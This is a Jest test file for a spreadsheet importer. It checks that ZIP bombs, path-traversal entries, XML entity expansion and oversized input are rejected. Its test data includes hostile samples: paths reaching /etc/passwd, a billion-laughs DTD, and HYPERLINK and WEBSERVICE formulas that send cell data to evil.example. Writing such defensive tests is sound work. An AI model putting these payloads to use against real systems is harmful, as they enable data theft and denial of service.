import { readFileSync } from 'node:fs';
import { tableFolder, tableOpener } from '../../../../test/support/tables';
import { inflatingTo, workbookOf, zipOf, type ZippedFile } from '../../../../test/support/workbooks';
import { RowWriter } from './rowWriter';

const open = tableOpener();
const { fileOf } = tableFolder();
const sheetOf = (rows: string, files: ZippedFile[] = []) => workbookOf({ sheets: { Homes: rows }, files });
const oneRow = '<row><c><v>1</v></c></row>';
const sheetFile = 'xl/worksheets/sheet0.xml';

const tooComplex = {
  status: 415,
  code: 'too_complex',
  message: 'This file is too complex to open. Split it into several files.',
};
const damaged = { status: 415, code: 'wrong_type', message: expect.stringContaining('This file is damaged.') };

describe('a ZIP bomb', () => {
  it('R55 is refused unopened when its directory says what it inflates to', async () => {
    const size = { name: sheetFile, inflatesTo: 1_024 * 1024 * 1024 };
    await expect(open(sheetOf('', [{ ...size, content: inflatingTo(1_024) }]))).rejects.toMatchObject(tooComplex);
    await expect(open(sheetOf('', [{ ...size, content: 'cannot be opened' }]))).rejects.toMatchObject(tooComplex);
  });

  it('R55 is refused after as many bytes as its directory says, when that is a lie', async () => {
    const before = process.memoryUsage().rss;
    const bomb = { name: sheetFile, content: inflatingTo(1_024), inflatesTo: 1_000 };
    await expect(open(sheetOf('', [bomb]))).rejects.toMatchObject(damaged);
    expect(process.memoryUsage().rss - before).toBeLessThan(200 * 1024 * 1024);
  });

  it('R55 is refused when it is a hundred times its file, but not a small file that is dense', async () => {
    const of = (rows: number) => sheetOf(oneRow.repeat(rows));
    expect(of(400_000).length * 100).toBeLessThan(oneRow.length * 400_000);
    await expect(open(of(1_000))).resolves.toMatchObject({ sheets: [{ rows: 1_000 }] });
    await expect(open(of(420_000))).rejects.toMatchObject(tooComplex);
  });

  it('R55 of many sheets that are one file is counted as often as it is read', async () => {
    const sheets = Array.from({ length: 100 }, () => '<sheet name="a" r:id="rId0"/>').join('');
    const book = { name: 'xl/workbook.xml', content: `<workbook xmlns:r="r"><sheets>${sheets}</sheets></workbook>` };
    await expect(open(sheetOf(`<!--${' '.repeat(200_000)}-->`, [book]))).rejects.toMatchObject(tooComplex);
  });

  it('R55 beside the sheets is never inflated, nor is a ZIP in the ZIP', async () => {
    const beside = [
      { name: 'xl/media/image1.bmp', content: inflatingTo(1_024), inflatesTo: 1_024 * 1024 * 1024 },
      { name: 'xl/embeddings/book.xlsx', content: zipOf([{ name: 'a', content: inflatingTo(1_024), inflatesTo: 9 }]) },
    ];
    expect((await open(sheetOf(oneRow, beside))).rows).toEqual([[1, ['1']]]);
  });

  it('R55 of thousands of files is refused', async () => {
    const files = Array.from({ length: 1_001 }, (_, at) => ({ name: `xl/media/${at}`, content: '' }));
    await expect(open(sheetOf(oneRow, files))).rejects.toMatchObject(tooComplex);
  });
});

describe('a ZIP that is made to deceive', () => {
  it.each(['../../evil.xml', '/etc/evil.xml', 'xl/../../evil.xml', 'C:/evil.xml', '..\\evil.xml'])(
    'R55 with a path outside of it is refused: %s',
    async (name) => {
      await expect(open(sheetOf(oneRow, [{ name, content: '' }]))).rejects.toMatchObject(damaged);
    },
  );

  it('R55 with a sheet that is named outside of it is refused', async () => {
    const target = '<Relationship Id="rId0" Type="a/worksheet" Target="../../../../etc/passwd"/>';
    const relations = { name: 'xl/_rels/workbook.xml.rels', content: `<Relationships>${target}</Relationships>` };
    await expect(open(sheetOf(oneRow, [relations]))).rejects.toMatchObject(damaged);
  });

  it('R55 with an encrypted file is to be saved without a password', async () => {
    const secret = { name: sheetFile, content: 'abc', isEncrypted: true };
    await expect(open(sheetOf('', [secret]))).rejects.toMatchObject({
      status: 415,
      code: 'wrong_type',
      message: expect.stringContaining('without a password'),
    });
  });

  it('R55 with two files of one name is refused: programs differ in which they read', async () => {
    const twice = { name: 'xl/media/a', content: '' };
    await expect(open(sheetOf(oneRow, [twice, twice]))).rejects.toMatchObject(damaged);
  });

  it('R55 that holds only a workbook is not opened', async () => {
    const inner = sheetOf(oneRow);
    await expect(open(zipOf([{ name: 'homes.xlsx', content: inner }]))).rejects.toMatchObject({
      message: expect.stringContaining('can’t read this file as a table'),
    });
  });
});

describe('XML that is made to grow', () => {
  const laughs = Array.from({ length: 9 }, (_, at) => `<!ENTITY l${at + 1} "${`&l${at};`.repeat(10)}">`).join('');
  const dtd = `<!DOCTYPE sst [<!ENTITY l0 "lol">${laughs}]>`;

  it.each([
    ['a sheet', sheetFile, `${dtd}<worksheet><sheetData>${oneRow}</sheetData></worksheet>`],
    ['the shared texts', 'xl/sharedStrings.xml', `<?xml version="1.0"?>${dtd}<sst><si><t>&l9;</t></si></sst>`],
    ['the workbook', 'xl/workbook.xml', `${dtd}<workbook/>`],
    ['the relations', 'xl/_rels/workbook.xml.rels', '<!DOCTYPE a SYSTEM "file:///etc/passwd"><Relationships/>'],
  ])('R55 with entities of its own in %s is refused', async (_, name, content) => {
    await expect(open(sheetOf(oneRow, [{ name, content }]))).rejects.toMatchObject(damaged);
  });

  it('R55 no name is replaced but those of XML itself, and nothing twice', async () => {
    const texts = { name: 'xl/sharedStrings.xml', content: '<sst><si><t>&l9; &amp;lt; &lt;b&gt;</t></si></sst>' };
    const sheet = sheetOf('<row><c t="s"><v>0</v></c></row>', [texts]);
    expect((await open(sheet)).rows).toEqual([[1, ['&l9; &lt; <b>']]]);
  });

  it.each([
    ['text', `<t>${'a'.repeat(3_000_000)}`],
    ['attribute', `<t a="${'a'.repeat(3_000_000)}">`],
    ['comment', `<!--${'a'.repeat(3_000_000)}-->`],
  ])('R55 a part without an end is given up: %s', async (_, content) => {
    const texts = { name: 'xl/sharedStrings.xml', content: `<sst><si>${content}` };
    await expect(open(sheetOf(oneRow, [texts]))).rejects.toMatchObject(tooComplex);
  });

  it('R55 one long text that many cells repeat does not fill the disk', () => {
    const into = fileOf('');
    const writer = new RowWriter(into, 1_000_000);
    for (let row = 1; row <= 1_000; row += 1) writer.add(row, ['a'.repeat(30_000)]);
    writer.end();
    expect(writer).toMatchObject({ rows: 1_000, problem: tooComplex });
    expect(readFileSync(into).length).toBeLessThan(1_100_000);
  });
});

describe('a formula', () => {
  it('R55 is never looked at: a cell has the value that was stored with it', async () => {
    const rows = `<row>
      <c t="str"><f>HYPERLINK("https://evil.example/?"&amp;A1,"Press")</f><v>Press</v></c>
      <c><f>SUM([1]Sheet1!A1:A9)</f><v>7</v></c>
      <c t="str"><f>WEBSERVICE("https://evil.example/")</f></c>
      <c><f t="shared" si="0"/><v>8</v></c>
    </row>`;
    const link = { name: 'xl/externalLinks/externalLink1.xml', content: `${'<a>'.repeat(10)}broken` };
    expect((await open(sheetOf(rows, [link]))).rows).toEqual([[1, ['Press', '7', '', '8']]]);
  });
});

describe('a bound', () => {
  it.each([
    ['a cell in Excel’s last column', sheetOf('<row r="7"><c r="XFD7"><v>1</v></c></row>'), 7],
    ['a million columns of CSV', `a\n${'a,'.repeat(1_000_000)}`, 2],
    ['one column more than allowed', `a\n\n${Array.from({ length: 201 }, () => 'a').join(';')}`, 3],
  ])('R55 of columns is named with the row: %s', async (_, content, row) => {
    await expect(open(content)).rejects.toMatchObject({
      status: 413,
      code: 'too_large',
      message: `Row ${row} has more than 200 columns. Delete the ones you don’t need.`,
    });
  });

  it('R55 of columns does not count empty ones', async () => {
    const rows = '<row><c><v>1</v></c><c r="XFD1" s="1"/></row>';
    expect((await open(sheetOf(rows))).rows).toEqual([[1, ['1']]]);
    expect((await open(`a${','.repeat(50_000)}\nb`)).rows).toEqual([
      [1, ['a']],
      [2, ['b']],
    ]);
  });

  it.each([
    ['CSV', `a,b\nc,${'d'.repeat(32_768)}`],
    ['XLSX', sheetOf(`<row r="2"><c t="inlineStr"><is><t>${'d'.repeat(32_768)}</t></is></c></row>`)],
  ])('R55 of a cell’s characters is named with the row: %s', async (_, content) => {
    await expect(open(content)).rejects.toMatchObject({
      status: 413,
      code: 'too_large',
      message: 'A cell in row 2 has more than 32,767 characters. Shorten it.',
    });
  });

  it('R55 of rows is named, and does not count the headings and empty ones', () => {
    const writer = new RowWriter(fileOf(''));
    const add = (cell: string, rows: number) => {
      for (let row = 1; row <= rows; row += 1) writer.add(row, [cell]);
    };
    add('', 1_000);
    add('a', 200_001);
    expect(writer).toMatchObject({ rows: 200_001, problem: undefined });
    add('a', 1);
    writer.end();
    expect(writer.problem).toMatchObject({
      status: 413,
      code: 'too_large',
      message: 'This table has more than 2,00,000 rows. Split it into several files.',
    });
  });

  it.each(['r="0"', 'r="4000000000"', 'r="-1"', 'r="1e99"', 'r="x"'])(
    'R55 a row that no spreadsheet has makes the file a damaged one: %s',
    async (place) => {
      await expect(open(sheetOf(`<row ${place}><c><v>1</v></c></row>`))).rejects.toMatchObject(damaged);
    },
  );

  it.each(['ZZZZZZZ1', 'XFE1', '1', 'a1', '__proto__'])(
    'R55 a column that no spreadsheet has makes the file a damaged one: %s',
    async (place) => {
      await expect(open(sheetOf(`<row><c r="${place}"><v>1</v></c></row>`))).rejects.toMatchObject(damaged);
    },
  );

  it('R55 of bytes is named', async () => {
    await expect(open(Buffer.alloc(50 * 1024 * 1024 + 1, 'a'))).rejects.toMatchObject({
      status: 413,
      code: 'too_large',
      message: 'Files can be up to 50 MB. Split this one into several files.',
    });
  });
});
